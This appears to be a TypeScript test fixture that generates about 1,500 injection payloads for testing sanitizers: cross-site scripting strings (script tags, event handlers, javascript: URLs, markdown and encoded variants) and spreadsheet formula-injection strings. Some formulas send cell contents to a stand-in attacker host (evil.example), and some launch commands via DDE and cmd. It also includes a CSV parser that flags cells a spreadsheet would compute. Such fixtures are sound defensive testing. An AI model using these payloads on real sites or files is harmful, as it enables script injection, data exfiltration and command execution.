/** Texts that would run if they were taken for more than text: as a formula of a spreadsheet, as part of a page. */
import { WORD } from './live.ts';

const CALL = `${WORD}()`;

/** What runs in a page by itself. */
const SCRIPTS = [
	`<script ${WORD}>${CALL}</script>`,
	`<ScRiPt ${WORD}>${CALL}</sCrIpT>`,
	`<script ${WORD} src=//evil.example/${WORD}.js></script>`,
	`<img ${WORD} src=x onerror=${CALL}>`,
	`<img ${WORD} src="x" onerror="${CALL}">`,
	`<img/${WORD}/src=x/onerror=${CALL}>`,
	`<svg ${WORD} onload=${CALL}>`,
	`<svg ${WORD}><script>${CALL}</script></svg>`,
	`<svg ${WORD}><animate onbegin=${CALL} attributeName=x dur=1s>`,
	`<svg ${WORD}><a xlink:href="javascript:${CALL}"><text>x</text></a></svg>`,
	`<math ${WORD}><mtext><style><img src=x onerror=${CALL}></style>`,
	`<iframe ${WORD} srcdoc="<script>${CALL}</script>"></iframe>`,
	`<iframe ${WORD} src="javascript:${CALL}"></iframe>`,
	`<object ${WORD} data="javascript:${CALL}"></object>`,
	`<embed ${WORD} src="data:text/html,<script>${CALL}</script>">`,
	`<a ${WORD} href="javascript:${CALL}">x</a>`,
	`<a ${WORD} href="java&#x09;script:${CALL}">x</a>`,
	`<form ${WORD} action="javascript:${CALL}"><button>x</button></form>`,
	`<button ${WORD} formaction="javascript:${CALL}">x</button>`,
	`<input ${WORD} autofocus onfocus=${CALL}>`,
	`<body ${WORD} onload=${CALL}>`,
	`<details ${WORD} open ontoggle=${CALL}>`,
	`<video ${WORD}><source onerror=${CALL}></video>`,
	`<meta ${WORD} http-equiv="refresh" content="0;url=javascript:${CALL}">`,
	`<base ${WORD} href="//evil.example/">`,
	`<link ${WORD} rel=stylesheet href="//evil.example/${WORD}.css">`,
	`<style ${WORD}>@import "//evil.example/${WORD}.css";</style>`,
	`<div ${WORD} style="background:url(//evil.example/${WORD})">`,
	`<template ${WORD}><img src=x onerror=${CALL}></template>`,
	`<noscript ${WORD}><p title="</noscript><img src=x onerror=${CALL}>">`,
	`[x](javascript:${CALL})`,
	`[x](  JaVaScRiPt:${CALL} "t")`,
	`[x](data:text/html;base64,${WORD})`,
	`![x](x"onerror="${CALL})`,
	`![x](javascript:${CALL})`,
	`<javascript:${CALL}>`,
	`[x]: javascript:${CALL}`,
	`\`\`\`"><img ${WORD} src=x onerror=${CALL}>\n\`\`\``,
	`{@html "<img ${WORD} src=x onerror=${CALL}>"}`,
	`\${${CALL}}`,
	`{{${CALL}}}`,
	`</script ><script ${WORD}>${CALL}</script>`,
	`\\u003cscript ${WORD}\\u003e${CALL}\\u003c/script\\u003e`,
	`&lt;img ${WORD} src=x onerror=${CALL}&gt;`,
	`&#60;img ${WORD} src=x onerror=${CALL}&#62;`,
	`%3Cimg ${WORD} src=x onerror=${CALL}%3E`,
	`<!--<img ${WORD} src=x onerror=${CALL}>-->`,
	`<![CDATA[<img ${WORD} src=x onerror=${CALL}>]]>`,
	`\u2028;${CALL};\u2029`,
	`";${CALL};"`,
];

/** What would end that in which a text stands. */
const AROUND = ['', '"', "'", '">', "'>", '-->', '</title>', '</textarea></style>', '</script>', '\\";'];

/** 500 of them. */
export const SCRIPT_PAYLOADS: readonly string[] = AROUND.flatMap((before) =>
	SCRIPTS.map((script) => before + script),
);

const SIGNS = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '=-', '\uff1d', '\uff0b'];
const FORMULAS = [
	`${WORD}(1)`,
	`1+${WORD}`,
	`HYPERLINK("http://evil.example/?${WORD}="&A1,"x")`,
	`WEBSERVICE("http://evil.example/${WORD}")`,
	`IMPORTXML(CONCAT("http://evil.example/${WORD}",A1),"//a")`,
	`cmd|' /C ${WORD}'!A0`,
	`DDE("cmd","/C ${WORD}","x")`,
	`SUM(1)*${WORD}|'x'!A0`,
	`2+3+cmd|' /C ${WORD}'!A0`,
	`"x"&${WORD}`,
];
/** What stands before it: nothing, what other readers take cells apart at, and marks of text. */
const BEFORE = ['', 'x;', 'x\t', 'x\n', 'x\r\n', '";', "'", "x;'", '"', 'x,'];

/** 1,000 of them. */
export const FORMULA_PAYLOADS: readonly string[] = BEFORE.flatMap((before) =>
	SIGNS.flatMap((sign) => FORMULAS.map((formula) => before + sign + formula)),
);

/** A cell as a spreadsheet meets it: whether it would be computed. */
const isFormula = (cell: string) =>
	/^[\t\r\n]*[=+\-@\uff0b\uff0d\uff1d\uff20]/.test(cell) && cell.includes(WORD);

/** Cells of a file that would be computed, by a reader who takes cells apart at this sign; lines end at any end of a line. */
export function liveCells(text: string, separator: ',' | ';' | '\t'): string[] {
	const live: string[] = [];
	let at = text.startsWith('\ufeff') ? 1 : 0;
	while (at < text.length) {
		let cell = '';
		if (text[at] === '"') {
			at += 1;
			while (at < text.length && (text[at] !== '"' || text[at + 1] === '"')) {
				if (text[at] === '"') at += 1;
				cell += text[at] ?? '';
				at += 1;
			}
			at += 1;
		}
		while (at < text.length && text[at] !== separator && text[at] !== '\n' && text[at] !== '\r') {
			cell += text[at] ?? '';
			at += 1;
		}
		at += 1;
		if (isFormula(cell)) live.push(cell);
	}
	return live;
}
